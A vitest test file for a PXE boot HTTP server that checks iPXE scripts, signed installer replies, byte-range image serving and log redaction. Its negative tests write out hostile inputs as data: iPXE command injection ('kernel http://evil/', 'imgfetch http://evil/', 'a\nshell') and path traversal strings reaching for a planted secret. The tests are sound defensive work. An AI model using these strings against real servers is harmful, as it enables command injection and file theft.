/** What a controller gives out over HTTP, and what it keeps to itself. */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createConnection } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createUser } from '@nats-io/nkeys';
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { verify } from '../../adapters/keys/sign.ts';
import { serveBoot } from '../../pxe/server/http.ts';
import { createImages } from '../../pxe/server/images.ts';
import { BusError } from '../../services/ports.ts';
import { answerTo, type Provision } from '../../services/provisioning.ts';
import { makeImage } from './image.ts';

const MAC = '52:54:00:78:00:01';
const TOKEN = 'planted-token-0123456789abcdef';
const UUID = '77000000-0000-4000-8000-000000000001';
const BOOT = { kind: 'boot', job: '12.3', attempt: 2, host: 'b1', mode: 'install', token: TOKEN } as const;

const directory = mkdtempSync(join(tmpdir(), 'rekindle-http-'));
const node = createUser();
const signer = {
  publicKey: node.getPublicKey(),
  sign: (text: string) => Buffer.from(node.sign(Buffer.from(text))).toString('base64url'),
};
const image = makeImage(join(directory, 'images'), createUser());
const lines: string[] = [];
const note = (what: string, about?: object) => void lines.push(`${what} ${JSON.stringify(about ?? {})}`);
let asked: Provision[] = [];
let answer: () => unknown = () => BOOT;
let url = '';
let close = async () => {};

beforeAll(async () => {
  mkdirSync(join(directory, 'installer'));
  writeFileSync(join(directory, 'installer/vmlinuz'), 'kernel');
  writeFileSync(join(directory, 'installer/initrd.img'), 'initramfs');
  writeFileSync(join(directory, 'secret'), 'not for anybody');
  const port = 20_000 + Math.floor(Math.random() * 10_000);
  url = `http://127.0.0.2:${port}`;
  close = await serveBoot({
    node: 'n1',
    address: '127.0.0.2',
    port,
    urls: [url, 'http://10.78.0.2:8474'],
    signer,
    images: createImages({ directory: join(directory, 'images'), keys: [image.key], verify }),
    installer: join(directory, 'installer'),
    ask: async (request) => {
      asked.push(request);
      return answer();
    },
    say: { info: note, warn: note, error: note },
  });
});
afterAll(async () => {
  await close();
  rmSync(directory, { recursive: true, force: true });
});
beforeEach(() => {
  asked = [];
  answer = () => BOOT;
});

const get = (path: string, headers: Record<string, string> = {}) => fetch(`${url}${path}`, { headers });
const boot = async (more: Record<string, string> = {}) => {
  const query = new URLSearchParams({ mac: MAC, uuid: UUID, platform: 'efi', ...more });
  return (await get(`/boot?${query}`)).text();
};
const refuse = (stop: boolean) => () => ({ kind: 'refused', reason: 'not armed', stop });
const silence = () => {
  throw new BusError('timeout', 'provision.n1');
};

describe('boot scripts', () => {
  test('the first stage says who asks, and gives up some time', async () => {
    const text = await (await get('/boot.ipxe')).text();
    expect(text).toMatch(/^#!ipxe\n/);
    expect(text).toContain(
      `chain --replace --autofree ${url}/boot?mac=\${netX/mac}&uuid=\${uuid}&platform=\${platform} ||`,
    );
    expect(text).toMatch(/iseq \$\{tries\} 60 && goto end/);
  });

  test('an armed machine gets the installer from any controller, with the token on its command line', async () => {
    const text = await boot();
    expect(asked).toEqual([
      { kind: 'provision', from: 'n1', body: JSON.stringify({ kind: 'boot', mac: MAC, uuid: UUID }), signature: null },
    ]);
    const kernels = text.split('\n').filter((line) => line.startsWith('kernel '));
    expect(kernels.map((line) => line.split(' ')[1])).toEqual(
      [url, 'http://10.78.0.2:8474', url, 'http://10.78.0.2:8474'].map((from) => `${from}/installer/vmlinuz`),
    );
    for (const word of [
      'initrd=initrd.img',
      'BOOTIF=01-52-54-00-78-00-01',
      'rekindle.job=12.3',
      'rekindle.attempt=2',
      `rekindle.token=${TOKEN}`,
      `rekindle.url=${url},http://10.78.0.2:8474`,
    ])
      expect(kernels[0]!.split(' ')).toContain(word);
    expect(text).toContain(`initrd --name initrd.img ${url}/installer/initrd.img`);
  });

  test('a machine with nothing to install goes on to its disk, by BIOS and by UEFI', async () => {
    answer = refuse(true);
    expect(await boot({ platform: 'efi' })).toMatch(/\nexit 1\n$/);
    expect(await boot({ platform: 'efi' })).not.toContain('sanboot');
    expect(await boot({ platform: 'pcbios' })).toContain('sanboot --no-describe --drive 0x80');
  });

  test.each([
    ['no leader answers', silence, 61],
    ['the leader refuses for now', refuse(false), 7],
    ['the answer is no answer', () => ({ kind: 'boot' }), 61],
  ] as const)('when %s the machine waits and asks again, and then goes on to its disk', async (_why, how, times) => {
    answer = how;
    let path: string | undefined = `/boot?${new URLSearchParams({ mac: MAC, uuid: UUID, platform: 'pcbios' })}`;
    let rounds = 0;
    while (path && rounds < 100) {
      const text: string = await (await get(path)).text();
      const next: RegExpExecArray | null = new RegExp(`chain --replace --autofree ${url}(/boot\\?\\S+)`).exec(text);
      if (!next) expect(text).toContain('sanboot');
      else expect(text).toContain('sleep 5');
      path = next?.[1];
      rounds++;
    }
    expect(rounds).toBe(times);
  });

  test.each([
    ['a MAC with more behind it', { mac: `${MAC}\nkernel http://evil/` }],
    ['a MAC that is none', { mac: '\u0024{net0/mac}' }],
    ['a platform nobody has', { platform: 'efi\nshell' }],
    ['more tries than there are', { tries: '61' }],
  ])('%s is no request', async (_what, more) => {
    const answered = await boot(more as Record<string, string>);
    expect(answered).not.toContain('#!ipxe');
    expect(asked).toEqual([]);
  });

  test('nothing that was asked gets into a script but what the schema knows', async () => {
    const text = await boot({ uuid: 'x\nshell\n', serial: '\nimgfetch http://evil/' });
    expect(JSON.parse(asked[0]!.body)).toEqual({ kind: 'boot', mac: MAC, uuid: null });
    expect(text).not.toMatch(/shell|evil/);
  });

  test.each([{ job: '1 || shell' }, { token: 'a\nshell' }, { host: '\u0024{x}' }])(
    'an answer that would be more than one word is not put into a script: %j',
    async (wrong) => {
      answer = () => ({ ...BOOT, ...wrong });
      expect(await boot()).not.toMatch(/#!ipxe|shell/);
    },
  );
});

describe('requests of the installer', () => {
  const hello = {
    kind: 'hello',
    job: '12.3',
    attempt: 2,
    token: TOKEN,
    key: 'A'.repeat(43),
    inventory: { uuid: UUID, macs: [MAC], firmware: 'uefi', memoryMiB: 1, cpus: 1, disks: [] },
  };
  const post = (body: string, headers: Record<string, string> = {}) =>
    fetch(`${url}/v1/install`, { method: 'POST', body, headers });

  test('are passed on byte for byte, and this node signs that its answer is to this request', async () => {
    answer = () => ({ kind: 'refused', reason: 'the job is over', stop: true });
    const body = ` ${JSON.stringify(hello, null, 1)}`;
    const answered = await post(body);
    const text = await answered.text();
    expect(asked).toEqual([{ kind: 'provision', from: 'n1', body, signature: null }]);
    expect(JSON.parse(text)).toEqual({ kind: 'refused', reason: 'the job is over', stop: true });
    const [name, signature] = answered.headers.get('rekindle-signature')!.split(' ') as [string, string];
    expect(name).toBe('n1');
    expect(signature).toMatch(/^[A-Za-z0-9+/]{86}==$/);
    expect(verify(signer.publicKey, answerTo(body, text), signature)).toBe(true);
    expect(verify(signer.publicKey, answerTo(body, `${text} `), signature)).toBe(false);
    expect(verify(signer.publicKey, answerTo(`${body} `, text), signature)).toBe(false);
  });

  test('carry the signature of the installer, and without one only hello is passed on', async () => {
    const bye = JSON.stringify({ kind: 'bye', job: '12.3', attempt: 2, n: 4, how: 'reboot' });
    answer = () => ({ kind: 'ok' });
    expect((await post(bye)).status).toBe(400);
    expect(asked).toEqual([]);
    expect((await post(bye, { 'rekindle-signature': 'c2ln' })).status).toBe(200);
    expect(asked[0]!.signature).toBe('c2ln');
  });

  test('are to be sent again when no leader answers', async () => {
    answer = silence;
    const answered = await post(JSON.stringify(hello));
    expect([answered.status, answered.headers.get('retry-after')]).toEqual([503, '2']);
  });

  test('no more than 32 wait for the leader at once', async () => {
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    answer = () => held.then(() => ({ kind: 'ok' }));
    const statuses: number[] = [];
    const some = Array.from({ length: 40 }, async () => statuses.push((await post(JSON.stringify(hello))).status));
    await vi.waitFor(() => expect(statuses).toEqual(Array(8).fill(503)), 10_000);
    expect(asked.length).toBe(32);
    release();
    await Promise.all(some);
    expect((await post(JSON.stringify(hello))).status).toBe(200);
  });

  test.each([
    ['what is no request', '{"kind":"hello"}'],
    ['what is no JSON', 'token=1'],
    ['what only a boot loader asks', JSON.stringify({ kind: 'boot', mac: MAC, uuid: null })],
    ['more than 64 KiB', ' '.repeat(70_000)],
  ])('%s goes no further', async (_what, body) => {
    expect((await post(body, { 'rekindle-signature': 'c2ln' })).status).toBeGreaterThanOrEqual(400);
    expect(asked).toEqual([]);
  });
});

describe('files', () => {
  test('the installer and the image, whole', async () => {
    expect(await (await get('/installer/vmlinuz')).text()).toBe('kernel');
    expect(await (await get('/installer/initrd.img')).text()).toBe('initramfs');
    const manifest = await (await get(`/images/${image.digest}/manifest.json`)).text();
    expect(createHash('sha256').update(manifest).digest('hex')).toBe(image.digest);
    expect(await (await get(`/images/${image.digest}/manifest.sig`)).text()).toBe(image.signature);
    const stream = await get(`/images/${image.digest}/disk.zst`);
    expect(stream.headers.get('content-length')).toBe(String(image.stream.length));
    expect(Buffer.from(await stream.arrayBuffer()).equals(image.stream)).toBe(true);
  });

  test.each([
    ['bytes=0-0', 0, 1],
    ['bytes=100000-', 100_000, undefined],
    ['bytes=10-29', 10, 30],
    ['bytes=-7', -7, undefined],
    ['bytes=10-99999999', 10, undefined],
  ])('range %s', async (range, from, to) => {
    const part = await get(`/images/${image.digest}/disk.zst`, { range });
    const wanted = image.stream.subarray(from, to);
    expect(part.status).toBe(206);
    expect(Buffer.from(await part.arrayBuffer()).equals(wanted)).toBe(true);
    const start = image.stream.length + from < image.stream.length ? image.stream.length + from : from;
    expect(part.headers.get('content-range')).toBe(
      `bytes ${start}-${start + wanted.length - 1}/${image.stream.length}`,
    );
  });

  test('a range behind the end is refused, one that is none is the whole', async () => {
    expect((await get(`/images/${image.digest}/disk.zst`, { range: 'bytes=99999999-' })).status).toBe(416);
    expect((await get(`/images/${image.digest}/disk.zst`, { range: 'bytes=5-3' })).status).toBe(416);
    expect((await get(`/images/${image.digest}/disk.zst`, { range: 'lines=1-2' })).status).toBe(200);
  });

  /** As written: fetch would take the dots out itself. */
  const raw = (path: string) =>
    new Promise<string>((resolve, reject) => {
      const { hostname, port } = new URL(url);
      const socket = createConnection(Number(port), hostname, () =>
        socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`),
      );
      let text = '';
      socket.on('data', (chunk) => {
        text += chunk;
      });
      socket.once('error', reject).once('close', () => resolve(text));
    });

  test('nothing else can be read, however it is asked for', async () => {
    symlinkSync(join(directory, 'secret'), join(directory, 'installer/other'));
    for (const path of [
      '/installer/../secret',
      '/installer/..%2fsecret',
      '/installer/%2e%2e/secret',
      '/installer/other',
      '/images/../secret',
      `/images/${image.digest}/../../secret`,
      `/images/${image.digest}/..%2f..%2fsecret`,
      '/images/..%2f/secret',
      '/images/..%2f..%2f/secret',
      `/images/${image.digest}/`,
      `/images/${'0'.repeat(64)}/manifest.json`,
      '/secret',
      '/',
    ]) {
      const answered = await raw(path);
      expect(answered.split('\r\n')[0]).toMatch(/ 40[04] /);
      expect(answered).not.toContain('not for anybody');
    }
  });

  test('on its own address, not on others', async () => {
    await expect(fetch(url.replace('127.0.0.2', '127.0.0.1'))).rejects.toThrow();
  });
});

test('no token and no query is in any line that was logged', async () => {
  for (const how of [silence, () => ({ ...BOOT, job: 'a b' }), () => BOOT]) {
    answer = how;
    await boot({ token: TOKEN });
  }
  await fetch(`${url}/v1/install`, { method: 'POST', body: `{"token":"${TOKEN}"` });
  await get(`/nowhere?token=${TOKEN}`);
  expect(lines.length).toBeGreaterThan(0);
  expect(lines.join('\n')).not.toContain(TOKEN);
  expect(lines.join('\n')).not.toContain(MAC);
});
